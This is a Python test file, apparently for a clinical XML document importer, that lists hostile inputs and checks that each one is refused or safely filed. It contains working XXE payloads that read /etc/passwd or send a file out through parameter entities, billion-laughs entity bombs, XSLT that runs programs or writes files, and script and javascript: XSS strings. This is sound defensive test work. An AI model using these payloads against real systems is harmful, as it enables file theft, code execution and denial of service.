"""Files that ask their reader to open something else: a file, an address, a stylesheet, a schema, a program."""

from core.interop.attachments import Problem
from core.interop.refused_file import FileRefusal
from tests.core.interop.cda_samples import as_bytes, structured
from tests.core.interop.hostile.fates import Case, Cases, filed, refused
from tests.core.interop.hostile.making import (
    FILE,
    HEAD,
    HTTP,
    INSIDE,
    SOUND,
    XSI,
    in_body,
    in_root,
    in_stylesheet,
    utf8,
    with_doctype,
)

LAUGHS = "<!DOCTYPE l [" + "".join(f"<!ENTITY l{i + 1} '{f'&l{i};' * 10}'>" for i in range(9)) + "<!ENTITY l0 'ha'>]>"
SYSTEMS = {
    "a file": FILE,
    "a web address": HTTP,
    "FTP": "ftp://127.0.0.1:9/a",
    "PHP": "php://filter/convert.base64-encode/resource=/etc/passwd",
    "a program": "expect://id",
    "an archive": "jar:http://127.0.0.1:9/a.jar!/b",
    "a share": "\\\\127.0.0.1\\a\\b",
    "a path that climbs": "../../../../../../../../etc/passwd",
    "data": "data:text/plain,a",
}


def _doctype(doctype: str, *, use: str = "") -> Case:
    return refused(FileRefusal.HAS_DOCTYPE, lambda: with_doctype(doctype, use=use))


def _entity(system: str) -> Case:
    return _doctype(f"<!DOCTYPE a [<!ENTITY x SYSTEM '{system}'>]>", use="&x;")


def _elsewhere(value: str) -> Case:
    media = f"<entry><observationMedia ID='m'>{value}</observationMedia></entry>"
    text = "<text>x<renderMultiMedia referencedObject='m'/></text>"
    return filed(lambda: as_bytes(body=structured(text + media)), Problem.ELSEWHERE)


REFERENCES: Cases = {
    **{f"entity from {name}": _entity(system) for name, system in SYSTEMS.items()},
    "billion laughs": _doctype(LAUGHS, use="&l9;"),
    "quadratic blow-up": _doctype(f"<!DOCTYPE q [<!ENTITY q '{'q' * 100_000}'>]>", use="&q;" * 5_000),
    "entity that holds itself": _doctype("<!DOCTYPE a [<!ENTITY a '&a;'>]>", use="&a;"),
    "entity in an attribute": _doctype("<!DOCTYPE a [<!ENTITY x 'y'>]>", use="<content ID='&x;'/>"),
    "parameter entity": _doctype(f"<!DOCTYPE a [<!ENTITY % x SYSTEM '{HTTP}'> %x;]>"),
    "parameter entity that sends a file away": _doctype(
        f'<!DOCTYPE a [<!ENTITY % f SYSTEM "{FILE}"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM \'{HTTP}?%f;\'>">%e;%s;]>'
    ),
    "external subset": _doctype(f"<!DOCTYPE a SYSTEM '{FILE}'>"),
    "public external subset": _doctype(f'<!DOCTYPE html PUBLIC "a" "{HTTP}">'),
    "empty DOCTYPE": _doctype("<!DOCTYPE a>"),
    "attributes by default": _doctype("<!DOCTYPE a [<!ATTLIST ClinicalDocument xmlns CDATA #FIXED 'b'>]>"),
    "notation": _doctype(f"<!DOCTYPE a [<!NOTATION n SYSTEM '{FILE}'><!ENTITY u SYSTEM '{HTTP}' NDATA n>]>"),
    "DOCTYPE behind a long prolog": _doctype("<!-- - -->\n<?x y?> " * 999 + "<!DOCTYPE a>"),
    "DOCTYPE behind a comment that hides one": _doctype("<!-- <!DOCTYPE b> --><!DOCTYPE a>"),
    "DOCTYPE in a comment": filed(lambda: as_bytes(declaration=HEAD + "<!-- <!DOCTYPE a> -->")),
    "DOCTYPE in the text": filed(lambda: in_body("<![CDATA[<!DOCTYPE a>]]>")),
    "DOCTYPE in small letters": refused(FileRefusal.MALFORMED, lambda: with_doctype("<!doctype a>")),
    "DOCTYPE behind the root": refused(FileRefusal.MALFORMED, lambda: utf8(SOUND + "<!DOCTYPE a>")),
    "entity nobody declared": refused(FileRefusal.MALFORMED, lambda: in_body("&xxe;")),
    "instructions and comments": filed(lambda: in_body("a<?php system('id') ?><!-- b -->c")),
    "XInclude": filed(
        lambda: in_body(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{FILE}" parse="text"/>x')
    ),
    "XInclude that falls back": filed(
        lambda: in_body(
            f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{HTTP}"><i:fallback>x</i:fallback></i:include>'
        )
    ),
    "schema in a file": filed(lambda: in_root(f'{XSI} xsi:schemaLocation="urn:hl7-org:v3 {FILE}"')),
    "schema at an address": filed(lambda: in_root(f'{XSI} xsi:noNamespaceSchemaLocation="{HTTP}"')),
    "base elsewhere": filed(lambda: in_root(f'xml:base="{HTTP}"')),
    "stylesheet in a file": filed(
        lambda: as_bytes(declaration=f'{HEAD}<?xml-stylesheet type="text/xsl" href="{FILE}"?>')
    ),
    "stylesheet at an address": filed(
        lambda: as_bytes(declaration=f'{HEAD}<?xml-stylesheet type="text/xsl" href="{HTTP}"?>')
    ),
    "stylesheet that reads a file": filed(lambda: in_stylesheet(f"<xsl:value-of select=\"document('{FILE}')\"/>")),
    "stylesheet that writes a file": filed(
        lambda: in_stylesheet("<e:document xmlns:e='http://exslt.org/common' href='/etc/motd'/>")
    ),
    "stylesheet that stops its reader": filed(lambda: in_stylesheet("<xsl:message terminate='yes'/>")),
    "stylesheet that takes in another": filed(
        lambda: in_stylesheet("x", top=f'<xsl:import href="{FILE}"/><xsl:include href="{HTTP}"/>')
    ),
    "stylesheet that runs a program": filed(
        lambda: in_stylesheet("<r:exec xmlns:r='http://xml.apache.org/xalan/java/java.lang.Runtime'>id</r:exec>")
    ),
    "stylesheet without a document": refused(
        FileRefusal.NOT_CLINICAL_DOCUMENT, lambda: in_stylesheet("x").replace(INSIDE.encode(), b"")
    ),
    "stylesheet with two documents": refused(FileRefusal.SEVERAL_DOCUMENTS, lambda: in_stylesheet(INSIDE)),
    "script": filed(lambda: in_body("<script>alert(1)</script>x")),
    "link that runs": filed(lambda: in_body('<linkHtml href="javascript:alert(1)">x</linkHtml>')),
    "link to a file": filed(
        lambda: in_body(f'<linkHtml xmlns:k="http://www.w3.org/1999/xlink" k:href="{FILE}" href="{FILE}">x</linkHtml>')
    ),
    "picture in the text": filed(lambda: in_body(f'<img src="{HTTP}" onerror="alert(1)"/>x')),
    "style that fetches": filed(lambda: in_body(f'<content styleCode="Bold url({HTTP})">x</content>')),
    "SVG in the text": filed(
        lambda: in_body(
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{HTTP}"/><script>alert(1)</script></svg>x'
        )
    ),
    "picture in a file": _elsewhere(f'<value><reference value="{FILE}"/></value>'),
    "picture on a path that climbs": _elsewhere('<value><reference value="../../../../../../etc/passwd"/></value>'),
    "picture at an address": _elsewhere(f'<value mediaType="image/png"><reference value="{HTTP}"/></value>'),
    "picture on a share": _elsewhere('<value><reference value="\\\\127.0.0.1\\a\\b.png"/></value>'),
    "pages elsewhere": filed(
        lambda: as_bytes(
            body=f'<component><nonXMLBody><text><reference value="{FILE}"/></text></nonXMLBody></component>'
        ),
        Problem.ELSEWHERE,
        Problem.NOTHING_TO_READ,
    ),
    "picture nobody enclosed": filed(lambda: in_body('x<renderMultiMedia referencedObject="nobody ../../a"/>')),
}
